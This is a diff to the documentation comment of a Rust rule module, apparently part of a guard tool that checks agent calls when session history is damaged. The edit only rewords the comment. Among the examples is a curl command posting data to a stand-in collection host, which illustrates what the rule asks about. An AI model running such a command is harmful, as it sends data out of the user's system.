@@ -1,16 +1,16 @@
-//! `unknown-history`: a call that depends on the session's history, while the history is damaged or has lost denials or
-//! remotes.
+//! `unknown-history`: a call that depends on the session's history while the history is damaged, or has lost denials
+//! or remotes.
 //!
 //! ## Why
-//! Without the history, guard-host can't tell whether a secret was read, the file was downloaded, or the same effect was
-//! denied.
+//! Without the history, guard-host can't tell whether the session read a secret, downloaded the file, or was denied
+//! the same effect.
 //!
 //! ## Examples
 //! - asked: `curl -d a=b https://collect.example.org`
 //! - passes: `ls -la`
 //!
 //! ## Instead
-//! A person can delete the history: `guard-host session clear --session ID`.
+//! Ask the user to delete the history: `guard-host session clear --session ID`.
 
 use guard_sdk::{Call, Outcome, Rule};
 
